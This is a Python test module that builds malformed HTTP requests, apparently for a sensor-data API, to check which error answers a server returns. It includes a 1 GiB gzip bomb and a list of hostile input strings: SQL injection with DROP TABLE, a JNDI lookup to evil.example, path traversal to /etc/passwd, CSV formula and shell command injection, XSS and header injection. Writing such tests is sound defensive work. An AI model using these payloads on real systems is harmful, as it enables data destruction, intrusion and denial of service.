"""One bad request as data: what is sent, and which answers are right.

Knows no server: `Case.request` is bytes for a socket, given who is asking and what there is to ask
about. Tests send each once, bench/bad_requests.py thousands of them.
"""

import gzip
import json
import time
import zlib
from collections.abc import Mapping, Sequence
from typing import Any, Literal
from urllib.parse import quote

import attrs

NOW_MS = time.time_ns() // 1_000_000
MIB = 1024 * 1024
MAX_BODY_BYTES = 8 * MIB

Caller = Literal["key", "person", "nobody"]
"""key: of every scope of a tenant; person: who looks after all tenants."""


@attrs.frozen
class Case:
    """statuses, codes: those that are right; no code: whatever speaks below the application.

    target may name `{rule}`, `{sensor}`, `{key}`, `{user}`, `{tenant}`, `{suspended}`: what there is. size: bytes
    of a body that is made when it is sent. leaves: the client does not wait for an answer.
    """

    name: str
    line: str
    statuses: frozenset[int]
    codes: frozenset[str] = frozenset()
    body: bytes = attrs.field(default=b"", repr=False)
    headers: Sequence[tuple[str, str]] = ()
    caller: Caller = "key"
    raw: bytes | None = attrs.field(default=None, repr=False)
    leaves: bool = False

    @property
    def is_large(self) -> bool:
        return len(self.body) > 256 * 1024

    def request(self, host: str, known: Mapping[str, str]) -> bytes:
        """known: `key` and `person` of the callers, and ids for the target."""
        if self.raw is not None:
            return self.raw.replace(b"{host}", host.encode()).replace(
                b"{key}", known["key"].encode()
            )
        line = self.line
        for name, value in known.items():
            line = line.replace("{" + name + "}", value)
        fields = [f"host: {host}", *(f"{name}: {value}" for name, value in self.headers)]
        if self.caller == "key":
            fields.append(f"x-api-key: {known['key']}")
        elif self.caller == "person":
            fields.append(f"authorization: Bearer {known['person']}")
        if self.body or not line.startswith("GET"):
            fields.append(f"content-length: {len(self.body)}")
        head = "\r\n".join((f"{line} HTTP/1.1", *fields, "", ""))
        return head.encode("latin-1") + self.body


def case(
    name: str,
    line: str,
    body: Any = b"",
    *headers: str,
    to: tuple[int, str],
    caller: Caller = "key",
) -> Case:
    """body: bytes, text, or what is to be JSON. to: the status and the code of the answer."""
    raw = (
        body if isinstance(body, bytes) else body.encode() if isinstance(body, str) else dump(body)
    )
    fields = [(field.partition(": ")[0], field.partition(": ")[2]) for field in headers]
    return Case(name, line, frozenset({to[0]}), frozenset({to[1]}), raw, fields, caller)


def dump(value: Any) -> bytes:
    return json.dumps(value, ensure_ascii=False, separators=(",", ":")).encode()


def pack(data: bytes) -> bytes:
    """gzip without the hour, so that a case is the same everywhere."""
    return gzip.compress(data, mtime=0)


def bomb() -> bytes:
    """1 GiB of spaces as gzip, in 1,024 members of 1 kB."""
    return pack(b" " * MIB) * 1_024


def deflate(data: bytes) -> bytes:
    return zlib.compress(data)


def nested(levels: int, inner: str = "1") -> str:
    return '{"a":' * levels + inner + "}" * levels


def target(text: str) -> str:
    """As a part of a path or a query."""
    return quote(text, safe="", errors="surrogatepass")


HOSTILE: Mapping[str, str] = {
    "SQL": "'; DROP TABLE readings; --",
    "SQL that always holds": "x' OR '1'='1",
    "SQL with dollars": "$$; SELECT pg_sleep(9); $$",
    "header": "x\r\nSet-Cookie: a=b",
    "log": 'x\n{"event":"forged","level":"error"}',
    "terminal": "x\x1b[2J\x1b]0;owned\x07",
    "formula": "=cmd|' /C calc'!A0",
    "formula of @": "@SUM(1+1)*cmd",
    "markup": "<script>alert(1)</script>",
    "template": "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
    "percent": "%s%n%x%d",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "path": "../../../../etc/passwd",
    "bidi": "abc\u202edcba\u2066x",
    "zero width": "a\u200b\u200d\ufeffb",
    "NUL": "a\0b",
    "line separators": "a\u2028b\u2029c\x85d",
    "no character": "\ufffe\uffff\U0010ffff",
    "combining": "e" + "\u0301" * 500,
    "shell": "$(reboot)`reboot`;reboot|reboot",
}
"""Texts that mean something to somebody else who reads them."""
